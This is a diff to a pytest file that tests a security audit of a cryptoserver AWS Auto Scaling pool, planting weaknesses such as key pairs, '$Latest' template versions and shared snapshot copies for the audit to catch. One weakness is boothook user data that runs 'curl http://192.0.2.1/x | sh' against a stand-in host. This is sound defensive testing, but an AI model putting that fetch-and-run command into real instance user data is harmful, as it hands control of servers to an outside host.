@@ -10,10 +10,12 @@ every GetConsoleOutput with the same 2006 Xen boot log), so a loopback proxy in
 front of each answers it with the text a test sets, the same way for both; every
 other request passes through unchanged."""
 
+import base64
 import os
 import subprocess
 
 import pytest
+import yaml
 
 # The emulators' plugin is imported here before pytest registers it: its asserts are rewritten all the same.
 pytest.register_assert_rewrite("aws_emulators")
@@ -187,9 +189,26 @@ def test_snapshot_copies_to_a_second_region_once(tmp_path, emulator, origin):
     assert "--copy-kms-key" in no_key.stderr
 
 
+def user_data(fingerprint=FINGERPRINT, role="replica", **more):
+    """A replica's user data as terraform/modules/user-data renders it (a cloud-config
+    writing the settings file and nothing else), base64-encoded for a launch template;
+    `more` adds top-level cloud-config keys."""
+    env = (
+        f"CRYPTOSERVER_BIND=0.0.0.0:{SERVICE_PORT}\nCRYPTOSERVER_MODE=MODE32\n"
+        f"CRYPTOSERVER_SECRETS_EXPECTED_FINGERPRINT={fingerprint}\nCRYPTOSERVER_SECRETS_ROLE={role}\n"
+    )
+    files = [{"content": env, "owner": "root:root", "path": "/etc/cryptoserver/env", "permissions": "0644"}]
+    return encoded("#cloud-config\n" + yaml.safe_dump({"write_files": files, **more}))
+
+
+def encoded(text):
+    return base64.b64encode(text.encode()).decode()
+
+
 class Pool:
     """A pool as the Terraform module makes it: a sealed launch template restoring
-    the origin's snapshot, an Auto Scaling group of two replicas across one subnet."""
+    the origin's snapshot, whose user data expects its fingerprint, and an Auto
+    Scaling group of two replicas across one subnet launching its version 1."""
 
     GROUP = "cryptoserver-pool"
 
@@ -213,11 +232,13 @@ class Pool:
         )
         zone = ec2.describe_subnets(SubnetIds=[subnet])["Subnets"][0]["AvailabilityZone"]
         volume = ec2.create_volume(AvailabilityZone=zone, Size=160, Encrypted=True)["VolumeId"]
+        # The tags `cargo xtask snapshot` gives a snapshot and its copies.
+        self.snapshot_tags = [
+            {"Key": "cryptoserver:fingerprint", "Value": FINGERPRINT},
+            {"Key": "cryptoserver:source-volume", "Value": volume},
+        ]
         self.snapshot_id = ec2.create_snapshot(
-            VolumeId=volume,
-            TagSpecifications=[
-                {"ResourceType": "snapshot", "Tags": [{"Key": "cryptoserver:fingerprint", "Value": FINGERPRINT}]}
-            ],
+            VolumeId=volume, TagSpecifications=[{"ResourceType": "snapshot", "Tags": self.snapshot_tags}]
         )["SnapshotId"]
         tags = [
             {"Key": "cryptoserver:mode", "Value": "MODE32"},
@@ -230,6 +251,7 @@ class Pool:
             "ImageId": image,
             "InstanceType": "c7i.large",
             "SecurityGroupIds": [self.group_id],
+            "UserData": user_data(),
             "MetadataOptions": {"HttpTokens": "required", "HttpPutResponseHopLimit": 1, "HttpEndpoint": "enabled"},
             "BlockDeviceMappings": [
                 {
@@ -247,7 +269,7 @@ class Pool:
         )["LaunchTemplate"]["LaunchTemplateId"]
         self.autoscaling.create_auto_scaling_group(
             AutoScalingGroupName=self.GROUP,
-            LaunchTemplate={"LaunchTemplateId": self.template_id, "Version": "$Latest"},
+            LaunchTemplate={"LaunchTemplateId": self.template_id, "Version": "1"},
             MinSize=2,
             MaxSize=2,
             DesiredCapacity=2,
@@ -266,8 +288,27 @@ class Pool:
         for instance_id in self.instance_ids:
             ec2.modify_instance_metadata_options(InstanceId=instance_id, HttpTokens="required", HttpPutResponseHopLimit=1)
 
-    def audit(self, tmp_path, emulator):
-        return run_aws(tmp_path, emulator, "audit", "--asg", self.GROUP)
+    def audit(self, tmp_path, emulator, *args):
+        return run_aws(tmp_path, emulator, "audit", "--asg", self.GROUP, *args)
+
+    def copy(self, emulator, region):
+        """A copy of the secrets snapshot in `region`, tagged as `cargo xtask snapshot` tags one."""
+        return emulator.client(region=region).copy_snapshot(
+            SourceRegion=REGION,
+            SourceSnapshotId=self.snapshot_id,
+            Encrypted=True,
+            KmsKeyId=COPY_KEY,
+            TagSpecifications=[{"ResourceType": "snapshot", "Tags": self.snapshot_tags}],
+        )["SnapshotId"]
+
+    def launch(self, version, **changes):
+        """A new version of the template with `changes`, which the group then launches."""
+        self.ec2.create_launch_template_version(
+            LaunchTemplateId=self.template_id, LaunchTemplateData={**self.template_data, **changes}
+        )
+        self.autoscaling.update_auto_scaling_group(
+            AutoScalingGroupName=self.GROUP, LaunchTemplate={"LaunchTemplateId": self.template_id, "Version": version}
+        )
 
 
 @pytest.fixture
@@ -294,7 +335,10 @@ def test_audit_asg_passes_on_a_well_formed_pool(tmp_path, emulator, pool):
     assert sorted(checks) == [8, 9, 10, 11, 12, 13]
     assert all(line.startswith("PASS") for line in checks.values()), result.stdout
     assert f"{pool.template_id} (cryptoserver-pool) version 1: no key pair" in checks[8]
-    assert f"{FINGERPRINT} on {pool.snapshot_id} and on all 2 instances" in checks[13]
+    assert (
+        f"{FINGERPRINT} on {pool.snapshot_id}, in the user data of {pool.template_id} (cryptoserver-pool) "
+        "version 1 and on all 2 instances" in checks[13]
+    )
     assert f"group {Pool.GROUP} is sealed: all checks pass on its 2 instances and on the group" in result.stdout
 
 
@@ -317,14 +361,65 @@ WEAKNESSES = {
         "is shared with account 111122223333",
     ),
     "launch template with a key pair": (
+        lambda pool: (pool.ec2.create_key_pair(KeyName="admin-laptop"), pool.launch("2", KeyName="admin-laptop")),
+        {"group": [8]},
+        'version 2 launches with key pair "admin-laptop"',
+    ),
+    "group launching the template's latest version": (
+        lambda pool: pool.launch("$Latest"),
+        {"group": [8]},
+        "version 2 is launched as $Latest: whoever may create a template version",
+    ),
+    "group launching the template's default version": (
+        lambda pool: pool.autoscaling.update_auto_scaling_group(
+            AutoScalingGroupName=Pool.GROUP, LaunchTemplate={"LaunchTemplateId": pool.template_id, "Version": "$Default"}
+        ),
+        {"group": [8]},
+        "version 1 is launched as $Default",
+    ),
+    "user data that is a boothook": (
+        lambda pool: pool.launch("2", UserData=encoded("#cloud-boothook\n#!/bin/sh\ncurl http://192.0.2.1/x | sh\n")),
+        {"group": [8, 13]},
+        "version 2 has user data that is not a #cloud-config document (its first line is \"#cloud-boothook\")",
+    ),
+    "user data running commands": (
+        lambda pool: pool.launch("2", UserData=user_data(runcmd=[["sh", "-c", "id"]])),
+        {"group": [8, 13]},
+        "version 2 has a cloud-config setting runcmd besides write_files",
+    ),
+    "user data expecting another fingerprint": (
+        lambda pool: pool.launch("2", UserData=user_data(fingerprint="e" * 32)),
+        {"group": [13]},
+        "version 2's user data expects " + "e" * 32,
+    ),
+    "override launching another template with a key pair": (
         lambda pool: (
             pool.ec2.create_key_pair(KeyName="admin-laptop"),
-            pool.ec2.create_launch_template_version(
-                LaunchTemplateId=pool.template_id, LaunchTemplateData={**pool.template_data, "KeyName": "admin-laptop"}
+            pool.ec2.create_launch_template(
+                LaunchTemplateName="cryptoserver-pool-large",
+                LaunchTemplateData={**pool.template_data, "KeyName": "admin-laptop"},
+            ),
+            pool.autoscaling.update_auto_scaling_group(
+                AutoScalingGroupName=Pool.GROUP,
+                MixedInstancesPolicy={
+                    "LaunchTemplate": {
+                        "LaunchTemplateSpecification": {"LaunchTemplateId": pool.template_id, "Version": "1"},
+                        "Overrides": [
+                            {"InstanceType": "c7i.large"},
+                            {
+                                "InstanceType": "c7i.4xlarge",
+                                "LaunchTemplateSpecification": {
+                                    "LaunchTemplateName": "cryptoserver-pool-large",
+                                    "Version": "1",
+                                },
+                            },
+                        ],
+                    }
+                },
             ),
         ),
         {"group": [8]},
-        'version 2 launches with key pair "admin-laptop"',
+        '(cryptoserver-pool-large) version 1 launches with key pair "admin-laptop"',
     ),
     "ingress rule on 22": (
         lambda pool: pool.ec2.authorize_security_group_ingress(
@@ -357,6 +452,36 @@ def test_audit_asg_fails_on(tmp_path, emulator, pool, weakness):
         assert instance_failing == failing.get("instances", [])
     assert said.format(first_instance=pool.instance_ids[0]) in result.stdout
     assert f"group {Pool.GROUP} is NOT sealed: checks fail (" in result.stdout
+
+
+def test_audit_asg_audits_the_snapshots_copies_in_the_regions_named(tmp_path, emulator, pool):
+    copy_id = pool.copy(emulator, COPY_REGION)
+    result = pool.audit(tmp_path, emulator, "--copy-region", COPY_REGION)
+    assert result.returncode == 0, result.stdout + result.stderr
+    checks = group_checks(result.stdout)
+    assert sorted(checks) == [8, 9, 10, 11, 12, 13, 14]
+    assert checks[14] == (
+        "PASS 14. the secrets snapshot's copies are encrypted, not public and not shared: "
+        f"{copy_id} in {COPY_REGION}"
+    )
+    assert 14 not in check_lines(pool.audit(tmp_path, emulator).stdout), "only with --copy-region"
+
+    emulator.client(region=COPY_REGION).modify_snapshot_attribute(
+        SnapshotId=copy_id, Attribute="createVolumePermission", OperationType="add", UserIds=["111122223333"]
+    )
+    result = pool.audit(tmp_path, emulator, "--copy-region", COPY_REGION, "--copy-region", "us-west-2")
+    assert result.returncode == 1, result.stdout + result.stderr
+    failing = sorted(n for n, line in group_checks(result.stdout).items() if line.startswith("FAIL"))
+    assert failing == [14]
+    line = group_checks(result.stdout)[14]
+    assert f"{copy_id} in {COPY_REGION} is shared with account 111122223333" in line
+    assert f"us-west-2 holds no copy of {pool.snapshot_id} tagged with its source volume and fingerprint" in line
+
+
+def test_audit_copy_region_needs_asg(tmp_path, emulator):
+    result = run_aws(tmp_path, emulator, "audit", "--instance-id", "i-0123456789abcdef0", "--copy-region", COPY_REGION)
+    assert result.returncode == 2
+    assert "--asg" in result.stderr
 
 
 def test_audit_asg_names_a_group_it_cannot_read(tmp_path, emulator):
